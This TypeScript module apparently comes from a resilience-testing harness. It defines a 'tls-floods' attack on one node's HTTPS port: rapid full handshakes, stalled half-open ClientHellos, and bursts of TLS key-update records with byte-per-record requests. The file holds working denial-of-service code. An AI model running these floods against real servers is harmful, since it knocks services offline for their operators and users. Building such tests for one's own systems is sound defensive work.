import { connect as connectTls } from "node:tls";
import type { Attack } from "../attack.ts";
import { hold } from "../lib/hold.ts";
import { get, hostAndPort, openSocket } from "../lib/http.ts";
import { tlsClient } from "../lib/tls-client.ts";

const handshakes = { clients: 8, perSecond: 50 };
const halfOpen = 80;
const crumbs = { clients: 4, perSecond: 2, records: 400 };
/** A connection is left alone for this long after its records. */
const lingerMs = 500;

/** Has the HTTPS port of a node work for what is no request, or hardly one. */
export const tlsFloods: Attack = {
  name: "tls-floods",
  by: "stranger",
  does: `from four addresses at the HTTPS port of one node: ${handshakes.clients} clients make handshakes, at most ${handshakes.perSecond}/s in all; ${halfOpen} connections stop within their hello, and come again when they are cut; ${crumbs.perSecond} connections/s each send ${crumbs.records} records at once that ask for new keys, and as many bytes of a request in as many records`,
  async run(site) {
    const place = site.places.at(-1)!;
    const { host, port } = hostAndPort(place);
    const hello = Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252]);
    const request = get("/v1/status", `${host}:${port}\r\nx: ${"a".repeat(crumbs.records)}`);
    await Promise.all([
      hold(site, place, halfOpen, () => hello),
      each(handshakes.clients, (slot) =>
        site.repeat(handshakes.perSecond / handshakes.clients, () => shakeHands(slot)),
      ),
      each(crumbs.clients, (slot) => site.repeat(crumbs.perSecond / crumbs.clients, () => sendCrumbs(slot))),
    ]);

    async function shakeHands(slot: number): Promise<void> {
      const socket = await openSocket(host, port, site.address(slot), site.signal).catch(() => undefined);
      if (!socket) return;
      const secure = connectTls({ socket, rejectUnauthorized: false });
      secure.setTimeout(5_000, () => secure.destroy());
      const isDone = await new Promise((resolve) => {
        secure.once("secureConnect", () => resolve(true));
        secure.on("error", () => undefined).once("close", () => resolve(false));
      });
      site.count(isDone ? "handshakes" : "no handshake");
      secure.destroy();
    }

    async function sendCrumbs(slot: number): Promise<void> {
      const socket = await openSocket(host, port, site.address(slot), site.signal).catch(() => undefined);
      if (!socket) return;
      try {
        const client = await tlsClient(socket);
        const newKeys = Array.from({ length: crumbs.records }, () => client.newKeys());
        const letters = [...request].map((letter) => client.text(letter));
        socket.write(Buffer.concat([...newKeys, ...letters]));
        site.count("records", newKeys.length + letters.length);
        await site.pause(lingerMs);
        if (socket.destroyed) site.count("cut");
      } catch {
        site.count("no handshake");
      }
      socket.destroy();
    }
  },
};

function each(count: number, run: (slot: number) => Promise<unknown>): Promise<unknown> {
  return Promise.all(Array.from({ length: count }, (_, slot) => run(slot)));
}
